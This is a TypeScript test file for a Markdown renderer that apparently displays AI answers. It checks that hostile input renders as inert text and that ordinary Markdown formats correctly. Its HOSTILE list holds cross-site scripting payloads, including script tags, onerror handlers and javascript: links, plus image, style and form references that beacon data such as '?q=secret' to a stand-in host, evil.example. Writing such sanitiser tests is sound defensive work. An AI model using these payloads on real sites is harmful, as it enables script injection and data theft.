// Markdown: what it shows, and that no text of an answer can become markup, a request or a live link.

import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { parseMarkdown, plainText } from '../src/text/markdown';
import { MarkdownView } from '../src/ui/MarkdownView';

function render(text: string): string {
  return renderToStaticMarkup(<MarkdownView blocks={parseMarkdown(text)} cite={(tag) => <sup>{tag}</sup>} />);
}

const ALLOWED =
  /^<\/?(?:p|h3|h4|pre|code|blockquote|ul|ol|li|div|table|thead|tbody|tr|th|td|hr|br|strong|em|span|sup)(?: (?:class="(?:address|table)"|dir="ltr"|tabindex="0"|role="region"|aria-label="Table"|start="\d+"|scope="col"))*\/?>$/i;

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/?q=history">',
  '![x](https://evil.example/pixel.png?q=secret)',
  '![x][ref]\n\n[ref]: https://evil.example/p.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox(1))',
  '[a](https://evil.example "onmouseover=alert(1)")',
  '<javascript:alert(1)>',
  '<https://evil.example/auto>',
  'https://evil.example/bare?secret',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '**<b onmouseover=alert(1)>**',
  '| a | <img src=x onerror=alert(1)> |\n| - | - |\n| ![x](https://evil.example/p) | <script>1</script> |',
  '> <style>@import url(https://evil.example)</style>',
  '- <link rel=prefetch href=https://evil.example>',
  '# <meta http-equiv=refresh content="0;url=https://evil.example">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '[s1](javascript:alert(1))',
  '[![x](https://evil.example/i)](https://evil.example/l)',
  '<math><mtext></p><img src=x onerror=alert(1)>',
  '<form action=https://evil.example><input name=q></form>',
  '\u0000<script>\u0000alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '[x]: javascript:alert(1)\n\n[x]',
];

describe('hostile answers', () => {
  it.each(HOSTILE)('come out as text: %s', (text) => {
    const html = render(text);
    for (const tag of html.match(/<[^>]*>/g) ?? []) expect(tag, html).toMatch(ALLOWED);
    expect(html).not.toMatch(/<[^>]*(?:src|href|style|on\w+)=/i);
  });

  it('stays quick and finite on nests and open marks', () => {
    const nests = [
      '[',
      '*',
      '_',
      '`',
      '**',
      '> ',
      '- ',
      '![',
      '[s',
      '|',
      '<',
      '\\',
      '# ',
      '1. ',
      '~~~\n',
      '[a](',
      '*a **b ',
    ];
    const start = performance.now();
    for (const nest of nests) render(nest.repeat(4000));
    expect(performance.now() - start).toBeLessThan(20_000);
  });

  it('never throws on random text of its own signs', () => {
    const signs = [
      '*',
      '_',
      '`',
      '[',
      ']',
      '(',
      ')',
      '!',
      '#',
      '>',
      '-',
      '1.',
      '|',
      '\n',
      ' ',
      '\\',
      's1',
      'a',
      '<',
      '~',
      '\t',
      '€',
    ];
    let seed = 42;
    const random = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
    for (let round = 0; round < 2000; round++) {
      const text = Array.from({ length: 60 }, () => signs[Math.floor(random() * signs.length)]).join('');
      for (const tag of render(text).match(/<[^>]*>/g) ?? []) expect(tag, text).toMatch(ALLOWED);
    }
  });
});

describe('answers', () => {
  it.each([
    ['two\n\nparagraphs', '<p>two</p><p>paragraphs</p>'],
    ['## Head', '<h3>Head</h3>'],
    ['**bold** and *it*', '<p><strong>bold</strong> and <em>it</em></p>'],
    ['snake_case_name', '<p>snake_case_name</p>'],
    ['2 * 3 * 4', '<p>2 * 3 * 4</p>'],
    ['- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
    ['3. c\n4. d', '<ol start="3"><li>c</li><li>d</li></ol>'],
    ['- a\n  - b', '<ul><li>a<ul><li>b</li></ul></li></ul>'],
    ['text\n- a', '<p>text</p><ul><li>a</li></ul>'],
    ['> said', '<blockquote><p>said</p></blockquote>'],
    ['`a < b`', '<p><code dir="ltr">a &lt; b</code></p>'],
    ['claim [s1]. Next [s12].', '<p>claim<sup>s1</sup>. Next<sup>s12</sup>.</p>'],
    ['unfinished [s', '<p>unfinished </p>'],
    ['[Debian](https://example.org)', '<p>Debian <span class="address">(https://example.org)</span></p>'],
    ['![cat](https://x.example/c.png)', '<p><span class="address">[image not shown: cat]</span></p>'],
    ['[not a tag] and [x1]', '<p>[not a tag] and [x1]</p>'],
    ['“quoted words” [s1]\n\n“more” [s2]', '<p>“quoted words”<sup>s1</sup></p><p>“more”<sup>s2</sup></p>'],
  ])('shows %j', (text, html) => expect(render(text)).toBe(html));

  it('reads out without marks', () => {
    expect(plainText(parseMarkdown('# Head\n\n**bold** [s1] `code`\n\n- a\n- b'))).toBe('Head\nbold code\na\nb');
  });
});
